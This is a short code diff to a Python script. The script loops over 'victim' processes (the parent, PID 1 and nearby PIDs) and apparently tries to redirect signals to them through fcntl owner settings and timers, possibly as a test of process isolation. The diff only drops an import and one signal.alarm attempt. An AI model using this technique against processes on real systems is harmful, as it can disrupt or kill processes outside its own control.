@@ -4,7 +4,6 @@
 import fcntl
 import os
 import signal
-import time
 
 SETSIG, SETOWN_EX = 10, 15
 accepted = []
@@ -24,7 +23,6 @@ for victim in {os.getppid(), 1, *range(max(2, me - 64), me)} - {me, 0}:
         os.close(read)
         os.close(write)
 for attempt in (
-    lambda: signal.alarm(1),
     lambda: signal.setitimer(signal.ITIMER_REAL, 600),
     lambda: fcntl.fcntl(os.open("/usr/lib", os.O_RDONLY), fcntl.F_NOTIFY, 1),
 ):
